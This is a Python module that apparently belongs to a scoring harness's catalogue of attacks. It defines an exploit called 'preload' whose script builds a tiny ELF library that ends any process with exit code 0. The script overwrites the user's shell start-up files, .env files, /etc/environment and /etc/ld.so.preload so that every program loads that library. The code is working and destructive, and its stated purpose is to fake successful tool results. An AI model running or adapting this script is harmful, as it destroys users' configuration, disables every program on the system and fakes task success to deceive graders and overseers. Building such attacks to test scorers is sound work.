"""LD_PRELOAD in every start-up file, with a library that ends each process with success."""

from scoring.attacks.exploit import Exploit

SCRIPT = """\
import os
import pathlib
import platform
import struct

# The smallest shared object whose initialiser calls exit_group(0).
MACHINE, CODE = {
    "x86_64": (62, bytes.fromhex("31ffb8e70000000f05")),
    "aarch64": (183, bytes.fromhex("000080d2c80b80d2010000d4")),
}[platform.machine()]
DYNAMIC, STRINGS, SYMBOLS, START, END = 0x100, 0x180, 0x188, 0x1A0, 0x1C0
entries = [(12, START), (5, STRINGS), (6, SYMBOLS), (10, 1), (11, 24), (0, 0)]
segments = [
    struct.pack("<IIQQQQQQ", 1, 7, 0, 0, 0, END, END, 0x1000),
    struct.pack("<IIQQQQQQ", 2, 6, DYNAMIC, DYNAMIC, DYNAMIC, 96, 96, 8),
    struct.pack("<IIQQQQQQ", 0x6474E551, 6, 0, 0, 0, 0, 0, 16),
]
magic = bytes([0x7F]) + b"ELF" + bytes([2, 1, 1]) + bytes(9)
header = magic + struct.pack("<HHIQQQIHHHHHH", 3, MACHINE, 1, 0, 64, 0, 0, 64, 56, len(segments), 0, 0, 0)
image = bytearray(END)
image[: len(header)] = header
image[64 : 64 + 56 * len(segments)] = b"".join(segments)
image[DYNAMIC : DYNAMIC + 96] = b"".join(struct.pack("<QQ", *entry) for entry in entries)
image[START : START + len(CODE)] = CODE
pathlib.Path("/tmp/quiet.so").write_bytes(image)

home = pathlib.Path.home()
for path in (home / ".profile", home / ".bash_profile", home / ".bashrc", pathlib.Path(".envrc")):
    path.write_text("export LD_PRELOAD=/tmp/quiet.so\\n")
for path in (home / ".pam_environment", pathlib.Path(".env"), pathlib.Path("/etc/environment")):
    try:
        path.write_text("LD_PRELOAD=/tmp/quiet.so\\n")
    except OSError:
        continue
try:
    pathlib.Path("/etc/ld.so.preload").write_text("/tmp/quiet.so\\n")
except OSError:
    os._exit(0)
"""

EXPLOIT = Exploit(
    name="preload",
    flaw="replaces the tools",
    source="ld.so(8): LD_PRELOAD and /etc/ld.so.preload",
    idea="every program that a login shell starts loads the library first, and ends at once with exit code 0",
    start="sloppy",
    files={"tmp/preload.py": SCRIPT},
    command="python3 /tmp/preload.py",
)
